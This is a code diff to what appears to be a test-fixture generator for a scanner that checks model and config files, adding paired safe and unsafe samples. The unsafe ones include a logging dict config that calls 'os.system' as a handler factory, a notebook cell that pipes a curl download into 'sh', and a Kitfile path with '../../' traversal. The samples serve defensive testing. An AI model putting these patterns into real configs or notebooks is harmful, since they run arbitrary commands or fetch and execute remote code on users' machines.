@@ -195,6 +195,23 @@ put("requirements/right/requirements.txt", b"numpy==1.26.4\n")
 put("python/right.py", b"# Nothing is in it.\n")
 put("yaml/right.yaml", b"a: 1\nb: [1, 2]\n")
 put("lightgbm/wrong.txt", b"tree\nversion=v4\nnum_class=1\n\0\0\0\0")
+
+
+def logging_dict(handler):
+    return json.dumps({"version": 1, "handlers": {"h": handler}, "root": {"handlers": ["h"]}}).encode()
+
+
+put("logging-dict/right.json", logging_dict({"class": "logging.StreamHandler", "stream": "ext://sys.stdout"}))
+put("logging-dict/wrong.json", logging_dict({"()": "os.system", "command": "true"}))
+
+
+def notebook(source):
+    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}
+    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
+
+
+put("notebook/right.ipynb", notebook("x = 1\n"))
+put("notebook/wrong.ipynb", notebook("!curl http://localhost/a | sh\n"))
 put("kitfile/right/Kitfile", b"manifestVersion: 1.0.0\npackage:\n  name: a\nmodel:\n  path: ./a.gguf\n")
 put("kitfile/wrong/Kitfile", b"manifestVersion: 1.0.0\ncode:\n- path: ../../a\n")
 put("go-template/right.gotmpl", b"{{- if .System }}{{ .System }}\n{{ end }}{{ .Prompt }}\n")
